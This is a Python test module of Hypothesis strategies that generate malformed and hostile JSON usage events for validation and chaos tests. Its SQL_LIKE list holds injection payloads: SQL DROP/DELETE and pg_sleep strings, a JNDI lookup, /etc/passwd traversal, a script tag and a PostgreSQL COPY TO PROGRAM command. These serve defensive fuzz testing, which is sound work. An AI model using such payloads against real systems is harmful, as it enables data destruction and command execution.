"""Hypothesis strategies for usage events, shared by the unit and chaos suites.

Malformed and adversarial events (the chaos suite's scenario 5, and validation's unit
tests): each strategy yields the raw bytes of an input record value: not only wrong JSON,
but JSON that is wrong in every way a careless or hostile producer could manage:
invalid UTF-8, nesting deep enough to exhaust a recursive parser, numbers and
strings far beyond any limit, NaN and Infinity, duplicate keys, NUL characters
and lone surrogates, text that looks like SQL or a template, references that look
right but are made of confusable Unicode, and a wrong type at every field.

Valid events (`valid_events`): JSON objects that pass validation, every optional field
drawn or left out, each date in an offset of its own.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta, timezone
from typing import Any, TypeVar

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

T = TypeVar("T")

FIELDS = (
    "externalReference",
    "contractId",
    "debtorId",
    "productIdent",
    "description",
    "startDate",
    "endDate",
    "operatingSite",
    "taxLocation",
    "performanceLocation",
    "serviceCountry",
    "unitQuantities",
    "properties",
)
NESTED_FIELDS = (
    ("taxLocation", "country"),
    ("taxLocation", "postalCode"),
    ("performanceLocation", "city"),
    ("unitQuantities", 0, "unit"),
    ("unitQuantities", 0, "quantity"),
    ("properties", 0, "name"),
    ("properties", 0, "value"),
)
SQL_LIKE = (
    "'; DROP TABLE usages; --",
    "x' OR '1'='1",
    "1; DELETE FROM usages",
    "$1",
    "'||pg_sleep(10)||'",
    "E'\\\\x27'",
    "%s%s%s%n",
    "{0}{1}",
    "${jndi:ldap://example.invalid/a}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "\\u0000",
    "COPY usages TO PROGRAM 'id'",
)
# Look like a valid reference or product ident to a human; none is ASCII.
CONFUSABLE = (
    "dеmo.usage",  # Cyrillic e  # noqa: RUF001
    "demo.usаge",  # Cyrillic a  # noqa: RUF001
    "ref\u20101",  # hyphen, not hyphen-minus
    "ref\u200b1",  # zero-width space
    "ref\u200d1",  # zero-width joiner
    "ＲＥＦ１",  # fullwidth  # noqa: RUF001
    "ref\u202e1",  # right-to-left override
    "ref\u00a01",  # no-break space
    "ref1\u0301",  # combining acute accent
    "re\ufb011",  # ligature fi
    "ref\u22121",  # minus sign
    "İref",
    "ref\u0000",
    "ref\ud8001",  # lone surrogate
)


class Raw(str):
    """JSON text inserted verbatim (a number literal no JSON library would write)."""

    __slots__ = ()


class Pairs(list[tuple[str, Any]]):
    """An object written with its keys in this order, repeats included."""


def render(value: Any, ascii_only: bool = True) -> str:
    """JSON text of `value`: Raw verbatim, Pairs with duplicate keys, NaN/Infinity as
    bare words. With `ascii_only`, lone surrogates become \\u escapes (valid JSON
    syntax, invalid Unicode); without, raw characters (invalid UTF-8 once encoded)."""

    def text(item: Any) -> str:
        return json.dumps(item, ensure_ascii=ascii_only)

    if isinstance(value, Raw):
        return str(value)
    if isinstance(value, Pairs):
        return "{" + ",".join(f"{text(k)}:{render(v, ascii_only)}" for k, v in value) + "}"
    if isinstance(value, dict):
        items = value.items()
        return "{" + ",".join(f"{text(k)}:{render(v, ascii_only)}" for k, v in items) + "}"
    if isinstance(value, list):
        return "[" + ",".join(render(v, ascii_only) for v in value) + "]"
    return text(value)


def base_event(reference: str = "hostile-0") -> dict[str, Any]:
    return {
        "externalReference": reference,
        "productIdent": "demo.usage",
        "contractId": 1,
        "startDate": "2026-03-01T10:00:00Z",
        "endDate": "2026-03-01T10:05:00Z",
        "description": "a call",
        "taxLocation": {"country": "GB", "postalCode": "EC1A 1BB"},
        "performanceLocation": {"country": "GB", "city": "London"},
        "unitQuantities": [{"unit": "minute", "quantity": "5"}],
        "properties": [{"name": "line", "value": "1"}],
    }


huge_numbers = st.sampled_from(
    [
        Raw("1" + "0" * 400),
        Raw("-" + "9" * 40),
        Raw("1e999999999"),
        Raw("-1e-999999999"),
        Raw("0." + "0" * 5000 + "1"),
        Raw("123456789012345678901234567890.123456789012345678901234567890"),
        Raw("9223372036854775808"),
        Raw("-9223372036854775809"),
        Raw("1E+308"),
        Raw("-0"),
        Raw("0e0"),
        Raw("0.4e006699999999999999999999999999999999999999"),
        Raw("1e1000000000000000000"),
        Raw("1e-1000000000000000000"),
        Raw("7e0"),
    ]
)
# Exponents that reach past what Python's Decimal can hold (about 10^18) in both
# directions, the ones in between, and the everyday ones.
_exponents = st.one_of(
    st.integers(-400, 400),
    st.integers(-(10**40), 10**40),
    st.sampled_from(["006699999999999999999999999999999999999999", "1000000000000000000"]),
)


@st.composite
def json_numbers(draw: st.DrawFn) -> Raw:
    """A JSON number literal of any shape the grammar allows: a sign, up to 10 000
    integer digits, a fraction, an exponent (huge, tiny, zero-padded, on an integer)."""
    sign = draw(st.sampled_from(["", "-"]))
    integer = draw(
        st.one_of(
            st.just("0"),
            st.integers(1, 10**30).map(str),
            st.integers(1, 10_000).map(lambda n: "9" * n),
        )
    )
    fraction = draw(
        st.one_of(
            st.just(""),
            st.integers(1, 10_000).map(lambda n: "." + "0" * (n - 1) + "1"),
            st.integers(0, 10**20).map(lambda n: f".{n}"),
        )
    )
    exponent = draw(
        st.one_of(
            st.just(""),
            st.builds(
                lambda e, sign, n: f"{e}{sign}{str(n).lstrip('-')}",
                st.sampled_from(["e", "E"]),
                st.sampled_from(["", "+", "-"]),
                _exponents,
            ),
        )
    )
    return Raw(sign + integer + fraction + exponent)


numeric_strings = st.sampled_from(
    ["NaN", "Infinity", "-Infinity", "1e999999", "-0", "0x10", "1_000", " 1", "1.", ".5", "٣"]
)
non_finite = st.sampled_from([float("nan"), float("inf"), float("-inf")])
huge_strings = st.builds(
    lambda char, n: char * n,
    st.sampled_from(["x", "é", "\U0001f600", "'"]),
    st.integers(101, 70_000),
)
nasty_text = st.one_of(
    st.sampled_from(SQL_LIKE),
    st.sampled_from(CONFUSABLE),
    st.text(st.characters(codec=None, exclude_categories=()), max_size=40),
    st.text(max_size=20).map(lambda t: t + "\x00" + t),
)
scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**70), 2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    non_finite,
    huge_numbers,
    json_numbers(),
    numeric_strings,
    nasty_text,
    huge_strings,
)
hostile_values = st.recursive(
    scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(st.text(max_size=8), inner, max_size=4),
    ),
    max_leaves=12,
)


def _put(event: dict[str, Any], path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    target: Any = event
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = value
    return event


def _utf8(text: str) -> bytes:
    return text.encode("utf-8", errors="surrogatepass")


@st.composite
def wrong_field(draw: st.DrawFn) -> bytes:
    """A plausible event with one field (top-level or nested) given a hostile value."""
    path = draw(st.sampled_from([(f,) for f in FIELDS] + list(NESTED_FIELDS)))
    event = _put(base_event(), path, draw(hostile_values))
    return _utf8(render(event, ascii_only=draw(st.booleans())))


@st.composite
def unknown_fields(draw: st.DrawFn) -> bytes:
    """A valid event carrying extra top-level fields with hostile values (they are
    ignored and kept in the raw payload, SPEC.md §3): must still be stored."""
    event = base_event()
    extras = draw(st.dictionaries(st.text(min_size=1, max_size=10), hostile_values, max_size=3))
    for key, value in extras.items():
        event.setdefault(key, value)
    return _utf8(render(event))


@st.composite
def numbers_anywhere(draw: st.DrawFn) -> bytes:
    """A plausible event with a number of any shape at one field, nested or not, or in
    an unknown field, or as the whole value."""
    number = draw(json_numbers())
    where = draw(st.sampled_from([(f,) for f in FIELDS] + [*NESTED_FIELDS, ("extra",), ()]))
    if not where:
        return _utf8(render(draw(st.sampled_from([number, [number]]))))
    return _utf8(render(_put(base_event(), where, number)))


@st.composite
def duplicate_keys(draw: st.DrawFn) -> bytes:
    event = base_event()
    field = draw(st.sampled_from(FIELDS))
    pairs = Pairs(event.items())
    pairs.append((field, draw(st.one_of(st.just(event.get(field)), hostile_values))))
    return _utf8(render(pairs))


@st.composite
def deep_nesting(draw: st.DrawFn) -> bytes:
    depth = draw(st.integers(50, 30_000))
    kind = draw(st.sampled_from(["list", "object", "inside"]))
    if kind == "list":
        return b"[" * depth + b"]" * depth
    if kind == "object":
        return b'{"a":' * depth + b"1" + b"}" * depth
    nested = "[" * depth + "]" * depth
    event = base_event()
    event[draw(st.sampled_from(FIELDS))] = Raw(nested)
    return _utf8(render(event))


@st.composite
def broken_utf8(draw: st.DrawFn) -> bytes:
    """A valid event with invalid UTF-8 spliced in somewhere."""
    good = render(base_event()).encode()
    at = draw(st.integers(0, len(good)))
    bad = draw(
        st.sampled_from([b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\x80"])
    )
    return good[:at] + bad + good[at:]


@st.composite
def oversized(draw: st.DrawFn) -> bytes:
    """Larger than max_message_bytes (65536 by default): a valid event padded out."""
    event = base_event()
    event["padding"] = "x" * draw(st.integers(65_537, 200_000))
    return _utf8(render(event))


hostile_records = st.one_of(
    wrong_field(),
    wrong_field(),
    numbers_anywhere(),
    unknown_fields(),
    duplicate_keys(),
    deep_nesting(),
    broken_utf8(),
    oversized(),
    st.binary(max_size=200),
    st.text(max_size=100).map(_utf8),
    st.builds(lambda v: _utf8(render(v)), hostile_values),
)

HEALTH = [HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example]


def draw_many(strategy: st.SearchStrategy[T], n: int) -> list[T]:
    """`n` values of `strategy`, the same ones on every run (derandomized), without
    shrinking: Hypothesis as a repeatable generator for the through-the-worker test."""
    drawn: list[T] = []

    @settings(
        max_examples=n,
        derandomize=True,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=HEALTH,
    )
    @given(strategy)
    def collect(value: T) -> None:
        drawn.append(value)

    collect()
    return drawn


def hypothesis_settings(examples: int) -> Callable[[Callable[..., None]], Callable[..., None]]:
    """Repeatable property runs: derandomized, no example database, no deadline."""
    return settings(
        max_examples=examples,
        derandomize=True,
        database=None,
        deadline=None,
        suppress_health_check=HEALTH,
    )


# --- valid events, spelled in every way that means the same usage --------------------

idents = st.from_regex(r"\A[a-zA-Z0-9_.~-]{1,20}\Z")
texts = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=30
)
offsets = st.integers(min_value=-14 * 60, max_value=14 * 60).map(
    lambda minutes: timezone(timedelta(minutes=minutes))
)
# hypothesis bounds are naive; the drawn instants are aware (UTC).
instants = st.datetimes(
    min_value=datetime(2000, 1, 1),  # noqa: DTZ001
    max_value=datetime(2090, 1, 1),  # noqa: DTZ001
    timezones=st.just(UTC),
)
quantity_values = st.decimals(
    min_value=0, max_value=10**12, places=6, allow_nan=False, allow_infinity=False
)
locations = st.fixed_dictionaries(
    {}, optional={"country": st.sampled_from(["GB", "DE", "FRA", "USA"]), "city": texts}
)


@st.composite
def valid_events(draw: st.DrawFn) -> dict[str, Any]:
    start = draw(instants)
    end = start + draw(st.timedeltas(min_value=timedelta(0), max_value=timedelta(days=40)))
    units = draw(st.lists(idents, max_size=4, unique=True))
    names = draw(st.lists(texts.filter(bool), max_size=4, unique=True))
    obj: dict[str, Any] = {
        "externalReference": draw(idents),
        "productIdent": draw(idents),
        "startDate": start.astimezone(draw(offsets)).isoformat(),
        "endDate": end.astimezone(draw(offsets)).isoformat(),
        "unitQuantities": [
            {"unit": unit, "quantity": draw(st.sampled_from([str, float]))(draw(quantity_values))}
            for unit in units
        ],
        "properties": [{"name": name, "value": draw(texts)} for name in names],
    }
    if draw(st.booleans()):
        obj["contractId"] = draw(st.integers(min_value=1, max_value=2**63 - 1))
        if draw(st.booleans()):
            obj["debtorId"] = draw(st.integers(min_value=1, max_value=10**6))
    else:
        obj["debtorId"] = draw(st.integers(min_value=1, max_value=2**63 - 1))
    optional = {
        "description": texts,
        "operatingSite": texts,
        "taxLocation": locations,
        "performanceLocation": locations,
        "serviceCountry": st.sampled_from(["GB", "DEU"]),
        "unknownField": st.integers(),
    }
    for name, strategy in optional.items():
        if draw(st.booleans()):
            obj[name] = draw(strategy)
    return obj
